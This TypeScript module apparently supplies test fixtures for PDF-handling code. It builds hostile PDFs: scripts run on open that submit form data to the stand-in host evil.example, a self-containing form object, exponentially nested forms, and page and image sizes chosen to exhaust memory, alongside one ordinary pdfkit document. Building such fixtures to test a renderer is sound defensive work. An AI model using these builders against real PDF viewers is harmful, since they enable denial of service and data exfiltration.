import PdfDocument from 'pdfkit';

/** A document of these objects, the first of which is its catalogue. */
const pdfOf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((body, index) =>
      Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from(`trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`),
  ]);

const stream = (text: string, dictionary = ''): string =>
  `<<${dictionary}/Length ${text.length}>>stream\n${text}\nendstream`;

const pages = (box: string, resources = '', more = ''): readonly string[] => [
  `<</Type/Catalog/Pages 2 0 R${more}>>`,
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R/Resources<<${resources}>>/Annots[5 0 R]>>`,
];

const ink = '0 0 1 rg 10 10 180 180 re f';
const note = (action: string): string =>
  `<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/Border[0 0 0]/A<<${action}>>/AA<</E<<${action}>>>>>>`;
const script = '/S/JavaScript/JS(app.alert("in"); this.submitForm("https://evil.example"))';

/** Runs a script on opening and on pointer events, and contains an action that opens another document. */
export const scriptedPdf = (): Buffer =>
  pdfOf(...pages('0 0 200 200', '', `/OpenAction<<${script}>>/AA<</WC<<${script}>>>>`), stream(ink), note(script));

/** One page, half a kilometre long. */
export const endlessPage = (): Buffer =>
  pdfOf(...pages('0 0 200 1400000'), stream('0 0 1 rg 0 0 200 1400000 re f'), note(script));

/** A form XObject that contains itself. */
export const recursivePdf = (): Buffer =>
  pdfOf(
    ...pages('0 0 200 200', '/XObject<</A 6 0 R>>'),
    stream(`${ink} /A Do`),
    note(script),
    stream('/A Do', '/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</A 6 0 R>>>>'),
  );

/** Nested form XObjects, each with ten of the next level: 10 to the power of `depth` in all. */
export const multiplyingPdf = (depth: number): Buffer => {
  const forms = Array.from({ length: depth }, (_, level) => {
    const isLast = level === depth - 1;
    const content = isLast ? ink : '/A Do '.repeat(10);
    const next = isLast ? '' : `/Resources<</XObject<</A ${7 + level} 0 R>>>>`;
    return stream(content, `/Type/XObject/Subtype/Form/BBox[0 0 200 200]${next}`);
  });
  return pdfOf(...pages('0 0 200 200', '/XObject<</A 6 0 R>>'), stream('/A Do'), note(script), ...forms);
};

/** A picture that claims this many pixels on each side. */
export const hugePicture = (side: number): Buffer =>
  pdfOf(
    ...pages('0 0 200 200', '/XObject<</A 6 0 R>>'),
    stream(`${ink} 200 0 0 200 0 0 cm /A Do`),
    note(script),
    stream(
      '\0'.repeat(100),
      `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/BitsPerComponent 8/ColorSpace/DeviceRGB`,
    ),
  );

/** A document as programs write it: typefaces that every reader has, one sentence on each page. */
export const printedPdf = (pageCount: number, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> =>
  new Promise((resolve) => {
    const document = new PdfDocument({ size: 'A4', ...options });
    const parts: Buffer[] = [];
    document.on('data', (part: Buffer) => parts.push(part));
    document.on('end', () => resolve(Buffer.concat(parts)));
    for (let page = 1; page <= pageCount; page++) {
      if (page > 1) document.addPage();
      document.font('Helvetica').fontSize(40).text(`Rapor, halaman ${page}`);
      document.font('Times-Roman').fontSize(20).text('Nilai: 90');
    }
    document.end();
  });
